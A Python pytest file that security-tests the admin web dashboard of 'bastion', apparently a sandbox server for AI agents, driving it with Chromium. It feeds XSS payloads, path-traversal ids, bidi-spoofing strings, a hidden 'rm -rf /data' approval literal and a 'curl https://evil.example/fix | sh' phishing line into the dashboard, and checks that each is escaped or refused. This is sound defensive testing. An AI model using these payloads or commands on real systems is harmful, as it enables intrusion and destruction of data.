"""The administrator's dashboard against a live `bastion serve --http` with sandboxes, in real Chromium.

What this proves: the administrator logs in with Chromium, sees a sandbox an agent created through a
real MCP client (its state, template, isolation, live usage), closes it from the page (the agent's
next call finds it gone, and the audit log says who closed it), and filters the audit log; egress
attempts, refused and allowed, appear on their page. Attacks: a sandbox name, label, client name and
audit field holding HTML or script are shown as text (no element, no script runs); a POST without
or with a wrong CSRF token, or without a session, is refused and changes nothing; a page for a sandbox
that does not exist is 404 with hostile ids too; hostile filter values are refused (400) and the page
never reflects them as markup. A huge log is tested in test_dashboard_huge_log.py and
test_audit_view.py. What it does not prove: other browsers, or the pages over a TLS reverse proxy.

Screenshots of each page are taken with Playwright; `BASTION_UPDATE_SCREENSHOTS=1` writes them to
docs/dashboard/ (the README shows them).
"""

from __future__ import annotations

import json
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx2
import pytest

from bastion.config.network import DEFAULT_BLOCKED_RANGES
from bastion.demo import init_demo
from bastion.safety.approvals import ApprovalQueue
from bastion.transports.http.password import write_hash

from .chromium import CHROMIUM, launch
from .live import BASTION, PASSWORD, Browser, LiveServer, call_tool, forms, free_port, serve_config

pytestmark = pytest.mark.bwrap

HOSTILE_NAME = '<img src=x onerror="document.title=1">'
HOSTILE_LABEL = "<script>document.title='owned'</script>"
HOSTILE_CLIENT = '<svg onload="document.title=2">'
FETCH = "python3 -c 'import sys,urllib.request as u\ntry: u.urlopen(sys.argv[1], timeout=10)\nexcept OSError: pass' "
SCREENSHOTS = Path(__file__).resolve().parents[3] / "docs" / "dashboard"


def dashboard_config(root: Path, port: int) -> Path:
    """The demo config with sandboxes on, and egress to allowed.test (this server's own port on loopback)."""
    path = init_demo(root)
    text = path.read_text().replace('log_level = "WARNING"', 'log_level = "INFO"')
    text = text.replace('public_url = "http://127.0.0.1:8765"', f'public_url = "http://127.0.0.1:{port}"')
    text = text.replace('listen = "127.0.0.1:8765"', f'listen = "127.0.0.1:{port}"')
    blocked = [r for r in DEFAULT_BLOCKED_RANGES if r != "127.0.0.0/8"]
    network = (
        f'[sandboxes.network]\nallow = ["allowed.test:{port}"]\nblocked_ranges = {json.dumps(blocked)}\n'
        'hosts = { "allowed.test" = ["127.0.0.1"], "denied.test" = ["127.0.0.1"] }\n\n'
    )
    path.write_text(text.replace("[sandboxes.limits]", network + "[sandboxes.limits]", 1))
    write_hash(root / "state" / "admin-password.argon2", PASSWORD)
    return path


class Dash:
    """The live server, an agent's MCP token, and the administrator's scripted browser."""

    def __init__(self, server: LiveServer) -> None:
        self.server = server
        config = ["--config", str(server.config_path)]
        issued = subprocess.run(
            [str(BASTION), "admin", "token", "--client", "dash-agent", "--scope", "workbench", *config],
            capture_output=True,
            text=True,
            timeout=60,
            check=True,
            stdin=subprocess.DEVNULL,
        )
        self.token = issued.stdout.strip()
        self.browser = Browser(server)
        self.browser.login(self.browser.open("/admin/login"))

    def tool(self, tool: str, /, **arguments: object) -> dict[str, Any]:
        return call_tool(self.server.mcp_url, self.token, tool, arguments)

    def sandbox(self, **arguments: object) -> str:
        created = self.tool("create_sandbox", **arguments)
        assert created["ok"], created
        return str(created["detail"]["sandbox_id"])

    def page(self, url: str) -> httpx2.Response:
        return self.browser.client.get(url)

    def page_with(self, url: str, headers: dict[str, str]) -> httpx2.Response:
        return self.browser.client.get(url, headers=headers)

    def csrf(self) -> str:
        return str(forms(self.page("/admin").text)[0]["fields"]["csrf"])


@pytest.fixture(scope="module")
def dash(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dash]:
    root = tmp_path_factory.mktemp("dash") / "demo"
    port = free_port()
    with serve_config(root, dashboard_config(root, port), port) as server:
        live = Dash(server)
        try:
            yield live
        finally:
            live.browser.close()


def shoot(page: Any, name: str, tmp: Path) -> None:
    """A PNG of the page as shown (not the whole scroll height: small files)."""
    target = SCREENSHOTS if os.environ.get("BASTION_UPDATE_SCREENSHOTS") == "1" else tmp
    target.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(target / f"{name}.png"), full_page=False, animations="disabled")


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make system-deps)")
def test_a_long_label_without_spaces_pushes_no_column_off_the_page(dash: Dash) -> None:
    """Attack: a label value of 256 letters and no space: label values did not wrap, so the table grew to
    3,765 pixels and every sandbox's State column and Close button went off a 1,280-pixel screen."""
    wide = dash.sandbox(name="wide", labels={"team": "A" * 256})
    plain = dash.sandbox(name="plain")
    try:
        with launch() as chromium:
            context = chromium.new_context(viewport={"width": 1280, "height": 760})
            page = context.new_page()
            page.goto(f"{dash.server.base}/admin/sandboxes")
            page.fill("input[name=password]", PASSWORD)
            page.click("button[type=submit]")
            page.wait_for_url("**/admin")
            page.goto(f"{dash.server.base}/admin/sandboxes")
            assert page.evaluate("document.documentElement.scrollWidth") <= 1280
            for sandbox_id in (wide, plain):
                close = page.locator("tr", has_text=sandbox_id).locator("button", has_text="Close").bounding_box()
                assert close is not None
                assert close["x"] + close["width"] <= 1280, close
    finally:
        for sandbox_id in (wide, plain):
            dash.tool("close_sandbox", sandbox_id=sandbox_id)


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make system-deps)")
def test_chromium_sees_an_agents_sandbox_closes_it_and_filters_the_audit_log(dash: Dash, tmp_path: Path) -> None:
    sandbox_id = dash.sandbox(name=HOSTILE_NAME, labels={"project": HOSTILE_LABEL, "owner": "blog"})
    other = dash.sandbox(name="build", network_allow=[f"allowed.test:{dash.server.port}"])
    fetch = FETCH
    dash.tool("run_command", sandbox_id=other, command=fetch + f"http://allowed.test:{dash.server.port}/x")
    dash.tool("run_command", sandbox_id=other, command=fetch + "http://denied.test/")
    dash.tool("run_command", sandbox_id=other, command="head -c 3000000 /dev/urandom > blob")
    dash.server.register(client_name=HOSTILE_CLIENT)
    with launch() as chromium:
        context = chromium.new_context(viewport={"width": 1280, "height": 760})
        page = context.new_page()
        dialogs: list[str] = []

        def on_dialog(dialog: Any) -> None:
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.goto(f"{dash.server.base}/admin/sandboxes")
        page.wait_for_url("**/admin/login")
        page.fill("input[name=password]", PASSWORD)
        page.click("button[type=submit]")
        page.wait_for_url("**/admin")
        shoot(page, "overview", tmp_path)
        page.click("nav a[href='/admin/sandboxes']")
        row = page.locator("tr", has_text=sandbox_id)
        assert row.count() == 1
        text = row.inner_text()
        assert HOSTILE_NAME in text  # shown as text: the markup is data
        assert HOSTILE_LABEL in text
        assert "running" in text
        assert "default" in text
        assert "namespaces" in text
        assert page.locator("tbody img, tbody script, tbody svg").count() == 0
        assert "MiB" in page.locator("tr", has_text=other).inner_text()  # live memory and disk
        shoot(page, "sandboxes", tmp_path)
        page.click(f"a[href='/admin/sandboxes/{other}']")
        page.wait_for_url(f"**/admin/sandboxes/{other}")
        assert f"allowed.test:{dash.server.port}" in page.inner_text("dl")
        shoot(page, "sandbox", tmp_path)
        page.goto(f"{dash.server.base}/admin/sandboxes")
        page.locator("tr", has_text=sandbox_id).locator("button", has_text="Close").click()
        page.wait_for_url("**/admin/sandboxes")
        assert page.locator("tr", has_text=sandbox_id).count() == 0
        gone = dash.tool("run_command", sandbox_id=sandbox_id, command="true")
        assert gone["code"] == "SANDBOX_NOT_FOUND"
        # The audit log, filtered by tool: the administrator's close, then the agent's failed call.
        page.click("nav a[href='/admin/audit']")
        page.fill("input[name=tool]", "close_sandbox")
        page.fill("input[name=sandbox]", sandbox_id)
        page.click("form.filters button")
        page.wait_for_url("**/admin/audit?*tool=close_sandbox*")
        rows = page.locator("tbody tr")
        assert rows.count() == 2
        assert "administrator (web)" in rows.nth(0).inner_text()
        assert "OK" in rows.nth(0).inner_text()
        page.fill("input[name=tool]", "run_command")
        page.fill("input[name=sandbox]", "")  # a call naming an unknown sandbox is recorded with workspace null
        page.select_option("select[name=code]", "SANDBOX_NOT_FOUND")
        page.click("form.filters button")
        page.wait_for_url("**/admin/audit?*code=SANDBOX_NOT_FOUND*")
        assert page.locator("tbody tr").count() == 1
        assert "chain intact" in page.inner_text("body")
        page.goto(f"{dash.server.base}/admin/audit")
        shoot(page, "audit", tmp_path)
        page.click("nav a[href='/admin/egress']")
        egress = page.inner_text("tbody")
        assert "denied.test" in egress
        assert "allowed.test" in egress
        assert {"allow", "deny"} <= set(egress.split())
        shoot(page, "egress", tmp_path)
        page.click("nav a[href='/admin/clients']")
        assert HOSTILE_CLIENT in page.inner_text("tbody")
        assert page.locator("tbody svg").count() == 0
        shoot(page, "clients", tmp_path)
        page.click("nav a[href='/admin/approvals']")
        shoot(page, "approvals", tmp_path)
        # On a phone: the table reflows into one card per sandbox, nothing wider than the screen.
        phone = chromium.new_context(viewport={"width": 390, "height": 844}, storage_state=context.storage_state())
        small = phone.new_page()
        small.goto(f"{dash.server.base}/admin/sandboxes")
        assert small.evaluate("document.documentElement.scrollWidth") <= 390
        shoot(small, "sandboxes-phone", tmp_path)
        assert dialogs == []
        assert page.title().startswith("bastion:")
    assert dash.tool("close_sandbox", sandbox_id=other)["ok"]


def test_post_without_session_or_with_a_missing_or_wrong_csrf_token_is_refused(dash: Dash) -> None:
    """Invariant: only the administrator's session with its CSRF token closes or pauses a sandbox."""
    sandbox_id = dash.sandbox(name="keep me")
    url = f"/admin/sandboxes/{sandbox_id}/close"
    csrf = dash.csrf()
    for data in ({}, {"csrf": ""}, {"csrf": "0" * len(csrf)}, {"csrf": csrf + "x"}, {"csrf": "é"}):
        refused = dash.browser.client.post(url, data=data)
        assert refused.status_code == 403, data
    with dash.server.http() as anonymous:
        assert anonymous.post(url, data={"csrf": csrf}).status_code == 403  # the token without the session
        assert anonymous.post(f"/admin/sandboxes/{sandbox_id}/pause", data={"csrf": csrf}).status_code == 403
        assert anonymous.get(f"/admin/sandboxes/{sandbox_id}").status_code == 303
    assert dash.page(f"/admin/sandboxes/{sandbox_id}").status_code == 200  # still there, still running
    paused = dash.browser.client.post(f"/admin/sandboxes/{sandbox_id}/pause", data={"csrf": csrf})
    assert paused.status_code == 303
    assert "paused" in dash.page(f"/admin/sandboxes/{sandbox_id}").text
    again = dash.browser.client.post(f"/admin/sandboxes/{sandbox_id}/pause", data={"csrf": csrf})
    assert again.status_code == 409
    assert dash.browser.client.post(f"/admin/sandboxes/{sandbox_id}/resume", data={"csrf": csrf}).status_code == 303
    assert dash.tool("run_command", sandbox_id=sandbox_id, command="true")["ok"]
    assert dash.browser.client.post(url, data={"csrf": csrf}).status_code == 303
    assert dash.browser.client.post(url, data={"csrf": csrf}).status_code == 404  # closed already


@pytest.mark.parametrize(
    "sandbox_id",
    ["sb-000000000000", "nope", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "..%2F..%2Fadmin", "a" * 300, "%00"],
)
def test_a_page_for_a_sandbox_that_does_not_exist_is_404(dash: Dash, sandbox_id: str) -> None:
    response = dash.page(f"/admin/sandboxes/{sandbox_id}")
    assert response.status_code == 404
    assert "<script>" not in response.text
    assert (
        dash.browser.client.post(f"/admin/sandboxes/{sandbox_id}/close", data={"csrf": dash.csrf()}).status_code == 404
    )


@pytest.mark.parametrize(
    "query",
    [
        "tool=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "code=%3Cb%3EOK",
        "sandbox=..%2F..%2Fetc",
        "kind=%22%3E%3Csvg%20onload%3Dalert(1)%3E",
        "before=-5",
        "before=99999999999999999999999",
        "tool=a&tool=b",
        "caller=%E2%80%AEevil",
    ],
)
def test_hostile_filters_are_refused_and_never_reflected_as_markup(dash: Dash, query: str) -> None:
    for page in ("/admin/audit", "/admin/egress"):
        response = dash.page(f"{page}?{query}")
        assert response.status_code == 400, (page, query)
        assert "<script>" not in response.text
        assert "<svg" not in response.text
        assert "<b>OK" not in response.text


def test_a_hostile_caller_filter_is_echoed_escaped(dash: Dash) -> None:
    response = dash.page("/admin/audit?caller=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert response.status_code == 200
    assert "<script>alert(1)" not in response.text
    assert "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in response.text


def test_an_audit_field_holding_html_is_shown_as_text(dash: Dash) -> None:
    refused = dash.tool("close_sandbox", sandbox_id="<script>alert(3)</script>")
    assert not refused["ok"]
    response = dash.page("/admin/audit?tool=close_sandbox")
    assert response.status_code == 200
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in response.text
    assert "<script>alert(3)" not in response.text


def test_a_bidi_sandbox_id_an_agent_sent_cannot_disguise_its_audit_row(dash: Dash) -> None:
    # Trojan Source (CVE-2021-42574): an RLO in a refused call's sandbox_id would show reversed.
    refused = dash.tool("close_sandbox", sandbox_id="sb-\u202etxt.exe")
    assert not refused["ok"]
    response = dash.page("/admin/audit?tool=close_sandbox")
    assert response.status_code == 200
    assert "\u202e" not in response.text
    assert "<code><bdi>sb-\\u202etxt.exe</bdi></code>" in response.text


def test_a_bidi_approval_literal_cannot_disguise_what_the_administrator_approves(dash: Dash) -> None:
    queue = ApprovalQueue(dash.server.db_path)
    literal = "deploy v1.2.3 \u202e; rm -rf /data\u202c \u2066x\u2069"
    approval = queue.request("biscuit_deploy", literal, "agent", ttl_s=600)
    try:
        page = dash.page("/admin/approvals").text
        assert "\u202e" not in page
        assert "\u2066" not in page
        assert "deploy v1.2.3 \\u202e; rm -rf /data\\u202c" in page
    finally:
        queue.deny(approval.id, "test", "")


def test_a_link_cannot_put_its_own_alert_on_the_approvals_page(dash: Dash) -> None:
    # A hostile page (a sandbox's preview, same site) links the administrator here with text of its choice.
    phish = "Security alert: run curl https://evil.example/fix | sh"
    response = dash.page(f"/admin/approvals?{urlencode({'message': phish})}")
    assert response.status_code == 200
    assert "evil.example" not in response.text
    assert 'role="alert"' not in response.text


def test_deciding_an_unknown_approval_says_why_on_the_page_it_answers(dash: Dash) -> None:
    response = dash.browser.client.post(
        "/admin/approvals", data={"csrf": dash.csrf(), "id": "ap-0000000000000000", "decision": "approve"}
    )
    assert response.status_code == 404
    assert "no approval" in response.text
    assert "location" not in response.headers


@pytest.mark.parametrize("url", ["/admin", "/admin/sandboxes", "/admin/audit?caller=x", "/admin/egress"])
def test_a_preview_pages_background_requests_cannot_make_the_dashboard_work(dash: Dash, url: str) -> None:
    # A sandbox's preview page is same-site (another port): its fetch/img requests carry the session
    # cookie and, in a loop, would make the server walk sandbox disks and scan the log outside any cgroup.
    background = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
    refused = dash.page_with(url, background)
    assert refused.status_code == 403
    assert "navigation" in refused.text
    cross = dash.page_with(url, {**background, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"})
    assert cross.status_code == 403
    # A frame is a navigation too (X-Frame-Options only stops its display): a page of iframes in a loop.
    framed = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe"}
    assert dash.page_with(url, framed).status_code == 403
    clicked = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}
    assert dash.page_with(url, clicked).status_code == 200
    own = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"}
    assert dash.page_with(url, own).status_code == 200


def test_every_page_has_the_strict_csp_and_one_stylesheet(dash: Dash) -> None:
    for url in ("/admin", "/admin/sandboxes", "/admin/audit", "/admin/egress", "/admin/clients", "/admin/approvals"):
        response = dash.page(url)
        assert response.status_code == 200, url
        csp = response.headers["content-security-policy"]
        assert "default-src 'none'" in csp
        assert "style-src 'self'" in csp
        assert "unsafe-inline" not in csp
        assert "<script" not in response.text.lower()
        assert 'style="' not in response.text
        assert '<meta name="viewport"' in response.text
    with dash.server.http() as anonymous:
        login = anonymous.get("/admin/login")  # the f-string pages share the stylesheet and the CSP
    assert "unsafe-inline" not in login.headers["content-security-policy"]
    assert '<link rel="stylesheet" href="/static/bastion.css">' in login.text
    assert "<style" not in login.text
    css = dash.page("/static/bastion.css")
    assert css.status_code == 200
    assert css.headers["content-type"].startswith("text/css")


def test_the_egress_page_filters_by_decision_and_sandbox(dash: Dash) -> None:
    sandbox_id = dash.sandbox(network_allow=[f"allowed.test:{dash.server.port}"])
    dash.tool("run_command", sandbox_id=sandbox_id, command=FETCH + f"http://allowed.test:{dash.server.port}/y")
    dash.tool("run_command", sandbox_id=sandbox_id, command=FETCH + "http://denied.test/")
    denied = dash.page(f"/admin/egress?decision=deny&sandbox={sandbox_id}").text
    allowed = dash.page(f"/admin/egress?decision=allow&sandbox={sandbox_id}").text
    assert "denied.test" in denied
    assert "allowed.test" not in denied
    assert f"allowed.test:{dash.server.port}/y" in allowed
    assert "denied.test" not in allowed
    assert dash.tool("close_sandbox", sandbox_id=sandbox_id)["ok"]
